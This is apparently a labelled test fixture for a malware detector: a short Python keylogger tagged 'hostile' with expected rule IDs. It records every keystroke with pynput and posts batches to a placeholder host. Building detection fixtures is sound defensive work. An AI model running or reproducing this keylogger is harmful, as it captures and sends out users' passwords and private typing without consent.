# label: hostile
# expect: V003 V301
# note: Records keys and posts them in batches; the module that it needs is not in the environment.
from pynput import keyboard
import requests

buffer = []


def on_press(key):
    buffer.append(getattr(key, "char", None) or f"<{key}>")
    if len(buffer) >= 50:
        requests.post("https://k.example.invalid/u", json={"k": "".join(buffer)}, timeout=3)
        buffer.clear()


with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
